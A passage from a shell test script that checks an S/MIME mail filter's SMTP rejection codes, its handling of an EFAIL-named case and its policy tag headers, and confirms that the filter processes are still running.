else fail "$cn" "not delivered: $(cat "$WORK/out/$cn.reply") $(cat "$WORK/out/$cn.log")"; fi
cn=efail-reject
case $(cat "$WORK/out/$cn.reply") in
  "554 5.7.1 "*) if delivered "$cn" >/dev/null; then fail "$cn" "delivered"; else pass "$cn"; fi ;;
  *) fail "$cn" "reply '$(cat "$WORK/out/$cn.reply")', expected 554 5.7.1; log: $(cat "$WORK/out/$cn.log")" ;;
esac

for cn in policy-unsigned-reject policy-unencrypted-reject; do
  case $(cat "$WORK/out/$cn.reply") in
    "550 5.7.1 "*) if delivered "$cn" >/dev/null; then fail "$cn" "delivered"; else pass "$cn"; fi ;;
    *) fail "$cn" "reply '$(cat "$WORK/out/$cn.reply")', expected 550 5.7.1; log: $(cat "$WORK/out/$cn.log")" ;;
  esac
done
check_plaintext policy-encrypted-accepted "$WORK/m/plain.entity"
cn=policy-tag
if dump=$(delivered "$cn"); then
  sink_message "$dump" "$WORK/out/$cn.eml"
  tags=$(header_field "$WORK/out/$cn.eml" X-SSM-Policy)
  if [ "$tags" = "missing a valid S/MIME signature and encryption" ]; then pass "$cn"
  else fail "$cn" "X-SSM-Policy fields: '$(printf '%s' "$tags" | tr '\n' '|')'"; fi
else fail "$cn" "not delivered: $(cat "$WORK/out/$cn.reply")"; fi

for cfg in keep reject; do
  if kill -0 "${MPID[$cfg]}" 2>/dev/null; then pass "inb-milter-$cfg-still-running"
  else fail "inb-milter-$cfg-still-running" "ssm-milter died: $(tail -n 5 "$WORK/milter-$cfg.log" | tr '\n' ' ')"; fi
done
note "runtime $((SECONDS - T0)) s"
